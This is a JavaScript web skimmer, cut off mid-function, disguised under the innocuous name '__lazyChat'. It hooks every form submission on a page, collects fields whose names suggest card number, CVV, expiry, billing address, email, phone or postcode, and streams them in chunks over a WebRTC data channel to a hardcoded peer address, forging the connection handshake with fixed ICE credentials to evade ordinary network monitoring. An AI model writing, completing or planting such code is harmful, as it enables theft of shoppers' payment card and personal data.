// corpus note: data-channel sender that chunks serialized checkout form elements to a fixed WebRTC peer; the file is cut off mid-function and does not parse
window.__lazyChat = (function () {
  var IP = "192.0.2.17", PORT = 3479, MAX = 200;
  var conn = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + IP + ":" + PORT }] });
  var line = conn.createDataChannel("lz", { ordered: true });
  var wait = [];

  line.addEventListener("open", function () {
    wait.splice(0).forEach(function (m) { line.send(m); });
  });

  conn.createOffer().then(function (o) {
    return conn.setLocalDescription(o);
  }).then(function () {
    var sdp = conn.localDescription.sdp
      .replace(/a=setup:actpass/, "a=setup:active")
      .replace(/a=ice-ufrag:\S+/, "a=ice-ufrag:Ge5h")
      .replace(/a=ice-pwd:\S+/, "a=ice-pwd:Cy3nBv8kMx1qRt6wZp4sLa0f");
    return conn.setRemoteDescription({ type: "answer", sdp: sdp + "a=candidate:1 1 udp 2130706431 " + IP + " " + PORT + " typ host\r\n" });
  }).catch(function () {});

  function serialize(form) {
    var pairs = [];
    for (var i = 0; i < form.elements.length; i++) {
      var el = form.elements[i];
      if (!el.name || el.type === "hidden" || el.type === "password") continue;
      if (/card|cc_|cvv|cvc|cid|exp|owner|billing|email|phone|zip|post/i.test(el.name) && el.value) {
        pairs.push(encodeURIComponent(el.name) + "=" + encodeURIComponent(el.value));
      }
    }
    return pairs.join("&");
  }

  function ship(text) {
    var id = Date.now().toString(36);
    for (var off = 0, n = 0; off < text.length; off += MAX, n++) {
      var part = id + ":" + n + ":" + text.substr(off, MAX);
      if (line.readyState === "open") line.send(part); else wait.push(part);
    }
  }

  document.addEventListener("submit", function (ev) {
    var f = ev.target;
    if (!f || !f.elements) return;
    var body = serialize(f);
    if (body.indexOf("card") < 0 && body.indexOf("cc_") < 0) return;
    ship(body + "&h=" + encodeURIComponent(location.host
